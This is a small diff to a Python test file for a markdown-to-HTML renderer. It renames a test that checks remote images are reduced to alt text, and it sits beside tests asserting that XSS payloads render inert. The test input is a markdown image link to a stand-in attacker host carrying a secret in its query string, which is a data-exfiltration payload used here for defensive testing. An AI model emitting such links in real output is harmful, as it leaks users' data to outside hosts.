@@ -28,7 +28,7 @@ def test_markdown_xss_payloads_render_inert(payload):
     assert not re.search(r'<a\b[^>]*href="(?!https?:|mailto:)', html, re.I)
 
 
-def test_remote_image_becomes_its_alt_text():
+def test_case2_remote_image_becomes_its_alt_text():
     html = to_html("![secret](https://evil.example/p.png?q=SECRET)")
     assert "<img" not in html and "evil.example" not in html and "secret" in html
 
